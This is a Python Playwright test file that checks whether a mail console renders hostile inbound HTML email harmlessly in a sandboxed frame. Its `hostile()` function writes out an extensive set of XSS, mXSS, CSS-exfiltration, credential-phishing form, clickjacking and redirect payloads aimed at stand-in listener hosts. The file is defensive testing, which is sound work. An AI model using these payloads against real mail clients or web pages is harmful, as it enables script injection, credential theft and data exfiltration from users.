"""Mail that means harm, opened in a browser: it fetches nothing, runs nothing, leads nowhere, and covers nothing of the page."""

import socket
import threading
import uuid
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from playwright.sync_api import Page, expect

from tests.support.browser import SignIn
from tests.support.firm import Firm, eventually

LOG = "/communications"
# As long as a refresh or a late fetch would take to come.
_PATIENCE_MS = 2_500


class Ear:
    """A port that somebody would call who is lured away; `heard` is what each caller said first."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.heard: list[bytes] = []
        self.at = f"localhost:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            with caller:
                caller.settimeout(0.2)
                try:
                    self.heard.append(caller.recv(200))
                except OSError:
                    self.heard.append(b"")

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def ears() -> Iterator[dict[str, Ear]]:
    """`plain` nobody may ever call; `safe` only pictures, once they were asked for; `hint` nobody, either."""
    made = {name: Ear() for name in ("plain", "safe", "hint")}
    yield made
    for one in made.values():
        one.close()


def hostile(plain: str, safe: str, mark: str) -> str:
    """All the tricks at once. `plain` and `safe` are hosts of somebody else's."""
    http, https = f"http://{plain}", f"https://{safe}"
    return f"""<html><head><base href="{http}/base/" target="_top">
<meta http-equiv="refresh" content="0;url={http}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<meta http-equiv="set-cookie" content="tossed=1">
<link rel="stylesheet" href="{http}/sheet.css"><link rel="stylesheet" href="{https}/sheet.css">
<link rel="icon" href="{http}/icon"><link rel="preload" as="image" href="{http}/preload">
<link rel="prefetch" href="{http}/prefetch"><link rel="prerender" href="{http}/prerender">
<link rel="modulepreload" href="{http}/module.js"><link rel="manifest" href="{http}/manifest">
<script>top.document.title = "taken"; fetch("{http}/script"); alert(1)</script>
<script src="{http}/remote.js"></script><script type="module">import "{http}/module.js"</script>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{http}/speculated"]}}]}}</script>
<style>
@import url("{http}/import.css"); @import "{https}/import.css";
@font-face {{ font-family: spy; src: url("{http}/font") }}
html, body {{ position: fixed !important; inset: 0; width: 100vw !important; height: 100vh !important; z-index: 2147483647 }}
body, #spread {{ background: url("{http}/background"); cursor: url("{http}/cursor"), auto; font-family: spy }}
a[href^="h"] {{ list-style-image: url("{http}/selector") }} p::before {{ content: url("{http}/before") }}
input[value^="s"] {{ background-image: image-set("{http}/exfiltrated" 1x) }}
:visited {{ border-image: url("{http}/visited") 1 }} .spine, form, main {{ display: none !important }}
</style></head>
<body onload="alert('load')" onpageshow="alert('pageshow')" background="{http}/bgattr">
<p id="{mark}">A word of {mark}</p>
<img src="{http}/pixel.gif" width="1" height="1" onerror="alert('error')" onload="alert('loaded')">
<img src="{https}/pixel.gif" srcset="{https}/pixel2.gif 2x" width="1" height="1">
<img src="x" onerror="alert('relative')"><img src="//{plain}/noscheme.gif">
<IMG SRC="javascript:alert('img')"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(2)'>
<image href='{http}/insvg'/></svg>">
<svg onload="alert('svg')"><script>alert('svgscript')</script><image href="{http}/svgimage" /><use href="{http}/use.svg#x" />
<a xlink:href="javascript:alert('svga')"><text y="20">svg</text></a><foreignObject>
<iframe src="{http}/foreign"></iframe></foreignObject>
<animate onbegin="alert('begin')" attributeName="x" dur="1s" /><set attributeName="href" to="javascript:alert(3)" /></svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mutated')"></style></mglyph></table></mtext></math>
<details open ontoggle="alert('toggle')"><summary>s</summary></details>
<video src="{http}/video" poster="{http}/poster" autoplay onerror="alert('video')"></video>
<audio src="{http}/audio" autoplay></audio><picture><source srcset="{http}/source"><img src="{http}/picture"></picture>
<object data="{http}/object"></object><object data="data:text/html,<script>alert(4)</script>"></object>
<embed src="{http}/embed"><applet code="x" archive="{http}/applet"></applet>
<iframe src="{http}/frame"></iframe><iframe srcdoc="<script>top.alert('srcdoc')</script><img src='{http}/srcdoc'>"></iframe>
<iframe src="data:text/html,<script>alert(5)</script>"></iframe><iframe src="javascript:alert('frame')"></iframe>
<iframe src="/communications"></iframe><iframe src="{LOG}"></iframe>
<form id="f" action="{http}/form" method="post" target="_top"><input name="password" value="secret"
autofocus onfocus="alert('focus')">
<button id="send" formaction="{http}/formaction">Sign in again</button></form>
<form action="/sign-out" method="post" target="_top"><button id="out">Out</button></form>
<a id="top" href="{http}/top" target="_top">top</a> <a id="blank" href="{http}/blank" target="_blank">blank</a>
<a id="parent" href="{http}/parent" target="_parent">parent</a> <a id="self" href="{http}/self" target="_self"
ping="{http}/ping">self</a>
<a id="script" href="javascript:alert('link')" target="_self">script</a>
<a id="data" href="data:text/html,<script>alert(6)</script>" target="_top">data</a>
<a id="file" href="{http}/file" download target="_self">file</a>
<div id="spread" style="position:fixed;inset:0;z-index:2147483647;background:url({http}/inline)" popover="manual">cover</div>
<table background="{http}/table"><tr><td background="{http}/td">x</td></tr></table>
<bgsound src="{http}/bgsound"><isindex action="javascript:alert(7)"><marquee onstart="alert('marquee')">m</marquee>
<plaintext></body></html>"""


def hints(host: str) -> str:
    """What no policy forbids a document to do: to have a stranger's host looked up or called."""
    return f"""<html><head><link rel="preconnect" href="http://{host}"><link rel=dns-prefetch href="http://{host}">
<LINK REL='preconnect' crossorigin HREF='https://{host}'></head><body><p>Nothing to see</p></body></html>"""


def taken_in(firm: Firm, html: str, subject: str) -> str:
    """A mail of a stranger's comes in; the id of its entry."""
    mark = uuid.uuid4().hex
    mail = EmailMessage(policy=SMTP)
    mail["From"] = f'"<img src=x onerror=alert(8)> {mark}" <{mark}@mailbox.example>'
    mail["To"] = "post@letterbook.example"
    mail["Subject"] = subject
    mail["Message-ID"] = f"<{mark}@mailbox.example>"
    mail.set_content(f"As text: <script>alert(9)</script> {mark}")
    mail.add_alternative(html, subtype="html")
    requests.post(f"{firm.endpoints['ses_url']}/inbound", data=mail.as_bytes(), timeout=10).raise_for_status()

    def come() -> Any:
        found = firm.admin.get("/v1/communications", direction="inbound", limit=50)["items"]
        return next((one["id"] for one in found if one["from"] == f"{mark}@mailbox.example"), None)

    return str(eventually(come))


class Watch:
    """What a page does that mail must not make it do; and what it asks of strangers, whether a policy lets it or not."""

    def __init__(self, page: Page, origin: str) -> None:
        self.done: list[str] = []
        self.asked: list[tuple[str, str]] = []
        self._origin = origin
        page.on("dialog", self._dialog)
        page.on("download", lambda one: self.done.append(f"download {one.url}"))
        page.on("request", self._request)
        page.context.on("page", lambda one: self.done.append(f"window {one.url}"))
        page.on("framenavigated", self._navigated)

    def _dialog(self, dialog: Any) -> None:
        self.done.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        there = urlsplit(request.url)
        if there.scheme in ("http", "https") and f"{there.scheme}://{there.netloc}" != self._origin:
            self.asked.append((request.resource_type, request.url))

    def _navigated(self, frame: Any) -> None:
        if not frame.url.startswith((self._origin, "about:", "chrome-error:")):
            self.done.append(f"navigation {frame.url}")


def test_hostile_mail_is_harmless(firm: Firm, sign_in: SignIn, ears: dict[str, Ear]) -> None:
    mark = f"m{uuid.uuid4().hex[:12]}"
    html = hostile(ears["plain"].at, ears["safe"].at, mark)
    entry = taken_in(firm, html, f"<script>alert(10)</script><b>{mark}</b>")
    origin = firm.endpoints["console_url"].rstrip("/")
    here = f"{origin}{LOG}/{entry}"
    page = sign_in(path="/work")
    watch = Watch(page, origin)

    # On every page that tells of it, its words are words.
    for address in (LOG, "/work", f"{LOG}?direction=inbound", here):
        page.goto(address)
        page.wait_for_timeout(300)
        assert page.locator("main b", has_text=mark).count() == 0
        assert page.locator("main img").count() == 0
    page.wait_for_timeout(_PATIENCE_MS)
    frame = page.frame_locator("iframe.paper")
    expect(frame.get_by_text(f"A word of {mark}")).to_be_visible()
    assert page.url == here
    assert page.title().endswith("Letterbook")

    # It stays in its frame: the page beside it is there, and is what is clicked.
    for one in page.locator(".spine nav a").all():
        one.click(trial=True)

    assert ears["plain"].heard == []
    assert ears["safe"].heard == []

    # What it wants to be clicked leads nowhere: a browser may open a line to where a link points, and says nothing on it.
    assert (
        frame.locator("form, button, input, iframe, script, link, meta[http-equiv], base, object, embed").count() == 0
    )
    for words in ("top", "blank", "parent", "self", "script", "data", "file"):
        page.goto(here)
        frame.get_by_text(words, exact=True).click()
        page.wait_for_timeout(300)
        assert page.url == here, words
    assert len(page.context.pages) == 1
    assert watch.done == []
    assert not any(ears["plain"].heard)
    assert ears["safe"].heard == []
    ears["plain"].heard.clear()
    assert not [one for one in page.context.cookies() if one["name"] == "tossed"]

    # By its own address it is as helpless.
    policy = page.context.request.get(f"{here}/content").headers["content-security-policy"]
    assert policy.startswith("sandbox;")
    assert "allow-" not in policy
    page.goto(f"{here}/content")
    page.wait_for_timeout(_PATIENCE_MS)
    assert page.url == f"{here}/content"
    assert watch.done == []
    assert ears["plain"].heard == []
    assert ears["safe"].heard == []

    # Pictures, once somebody asks for them; and nothing but pictures, and those by TLS alone.
    page.goto(here)
    page.get_by_role("link", name="Load them this once").click()
    page.wait_for_url("**images=1**")
    page.wait_for_timeout(_PATIENCE_MS)
    assert ears["safe"].heard
    assert all(one[:1] in (b"", b"\x16") for one in ears["safe"].heard)
    assert ears["plain"].heard == []
    assert {kind for kind, _ in watch.asked} == {"image"}
    assert watch.done == []
    # The next time, nobody has asked.
    ears["safe"].heard.clear()
    page.goto(here)
    page.wait_for_timeout(_PATIENCE_MS)
    assert ears["safe"].heard == []


def test_the_frame_holds_whatever_comes_through(firm: Firm, sign_in: SignIn, ears: dict[str, Ear]) -> None:
    """What takes mail in removes most of the tricks. Were it blind to all of them, the frame would still hold."""
    entry = taken_in(firm, "<p>Nothing to see</p>", "Raw")
    origin = firm.endpoints["console_url"].rstrip("/")
    here = f"{origin}{LOG}/{entry}"
    page = sign_in(path="/work")
    watch = Watch(page, origin)
    raw = hostile(ears["plain"].at, ears["safe"].at, "raw")

    def untouched(route: Any) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<p>Nothing to see</p>", raw))

    page.route("**/content", untouched)
    page.goto(here)
    frame = page.frame_locator("iframe.paper")
    expect(frame.get_by_text("A word of raw")).to_be_attached()
    page.wait_for_timeout(_PATIENCE_MS)
    assert page.url == here
    assert page.title() != "taken"
    for words in ("top", "blank", "parent", "self", "script", "data", "file", "send", "out"):
        page.goto(here)
        expect(frame.get_by_text("A word of raw")).to_be_attached()
        frame.locator(f"#{words}").dispatch_event("click")
        page.wait_for_timeout(200)
        assert page.url == here, words
    page.unroute("**/content")
    page.goto(here)
    assert page.url == here, "somebody was signed out"
    assert len(page.context.pages) == 1
    assert watch.done == []
    # A line may be opened (no policy forbids `preconnect`); nothing is said on it.
    assert not any(ears["plain"].heard)
    assert not any(ears["safe"].heard)
    assert not [one for one in page.context.cookies() if one["name"] == "tossed"]


def test_no_stranger_is_called_before_anything_is_fetched(firm: Firm, sign_in: SignIn, ears: dict[str, Ear]) -> None:
    entry = taken_in(firm, hints(ears["hint"].at), "Hints")
    page = sign_in(path=f"{LOG}/{entry}")
    expect(page.frame_locator("iframe.paper").get_by_text("Nothing to see")).to_be_visible()
    page.wait_for_timeout(_PATIENCE_MS)
    assert ears["hint"].heard == []
